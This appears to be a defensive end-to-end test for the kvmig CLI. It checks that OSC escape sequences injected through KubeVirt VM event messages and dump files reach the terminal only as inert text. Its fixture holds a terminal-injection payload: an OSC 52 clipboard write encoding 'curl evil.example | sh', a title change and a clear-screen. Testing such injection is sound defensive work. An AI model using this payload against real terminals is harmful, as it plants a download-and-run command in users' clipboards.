// Issue 27 end to end: an event about a VM carries an OSC 52 sequence (which would write the
// user's clipboard) and a window-title OSC; `kvmig watch VM` and `kvmig diagnose VM`, the built
// CLI under a real pseudo-terminal (script(1)), show it as text and no OSC reaches the terminal,
// while kvmig's own colours still do.
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tempDir } from "../helpers/kubeconfig.js";
import { hasScript, runInPty, shQuote } from "../helpers/terminals.js";
import { distEntry, ensureBuilt, nodeDir, repoRoot } from "./built-cli.js";
import { type SimCli, simCli } from "./sim-cli.js";

beforeAll(ensureBuilt, 120_000);

const clipboard = "\u001B]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
const title = "\u001B]0;owned\u001B\\";
const message = `Guest agent says: ${clipboard}${title}copy done`;
const shown = "Guest agent says: ^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G^[]0;owned^[\\copy done";

let sim: SimCli;
beforeAll(async () => {
  sim = await simCli({ speed: 20 });
  const base = "/api/v1/namespaces/demo/events";
  const { simRequest } = await import("../helpers/sim.js");
  const started = await simRequest(
    sim.cluster,
    "PUT",
    "/apis/subresources.kubevirt.io/v1/namespaces/demo/virtualmachines/fedora-web/migrate",
    { body: {} },
  );
  expect(started.status).toBe(202);
  const created = await simRequest(sim.cluster, "POST", base, {
    body: {
      apiVersion: "v1",
      kind: "Event",
      metadata: { name: "fedora-web.clipboard", namespace: "demo" },
      involvedObject: { kind: "VirtualMachineInstance", namespace: "demo", name: "fedora-web" },
      reason: "AgentNote",
      type: "Warning",
      message,
    },
  });
  expect(created.status).toBe(201);
}, 60_000);
afterAll(async () => {
  await sim?.close();
});

async function onPty(args: string[]) {
  const line = [process.execPath, distEntry, ...args].map(shQuote).join(" ");
  const result = await runInPty(line, {
    env: {
      PATH: [nodeDir, "/usr/local/bin", "/usr/bin", "/bin"].join(":"),
      HOME: sim.env.HOME ?? "/nonexistent",
      KUBECONFIG: sim.kubeconfig,
      TERM: "xterm-256color",
    },
    cwd: repoRoot,
    columns: 200,
    killAfterMs: 45_000,
  });
  expect(result.killed).toBe(false);
  return result;
}

describe.runIf(hasScript())("an event with OSC 52 about a VM, on a real terminal", () => {
  it("kvmig watch VM shows it as text: no OSC reaches the pty, its own colours do", async () => {
    const { code, screen } = await onPty(["watch", "fedora-web", "-n", "demo"]);
    expect(code).toBe(0);
    expect(screen).toContain(shown);
    expect(screen).not.toContain("\u001B]");
    expect(screen).not.toContain("\u0007");
    // kvmig's own colours still arrive.
    expect(screen).toContain("\u001B[32mSucceeded\u001B[39m");
  }, 60_000);

  it("kvmig diagnose VM: no OSC reaches the pty, live and from a --dump whose failure reason holds one", async () => {
    const live = await onPty(["diagnose", "fedora-web", "-n", "demo"]);
    expect(live.screen).toContain("demo/fedora-web");
    expect(live.screen).not.toContain("\u001B]");
    expect(live.screen).not.toContain("\u0007");
    // The issue's own case: a directory (a colleague's --dump) whose failureReason holds OSC
    // sequences and a clear-screen.
    const dir = tempDir();
    cpSync(fileURLToPath(new URL("../fixtures/diagnose-offline/kubectl-list/", import.meta.url)), dir, {
      recursive: true,
    });
    const objects = join(dir, "objects.yaml");
    const original = 'failureReason: "Live migration failed: client socket is closed"';
    const reason = `Live migration failed: client socket is closed ${clipboard}${title}\u001B[2J`;
    writeFileSync(
      objects,
      readFileSync(objects, "utf8").replace(original, `failureReason: ${JSON.stringify(reason)}`),
    );
    const offline = await onPty(["diagnose", "db-1", "--from", dir]);
    expect(offline.code).toBe(0);
    expect(offline.screen).toContain(
      "client socket is closed ^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G^[]0;owned^[\\^[[2J",
    );
    expect(offline.screen).not.toContain("\u001B]");
    expect(offline.screen).not.toContain("\u0007");
    expect(offline.screen).not.toContain("\u001B[2J");
    // Its own colours: the finding's severity.
    expect(offline.screen).toContain("\u001B[33mWARNING");
  }, 60_000);
});
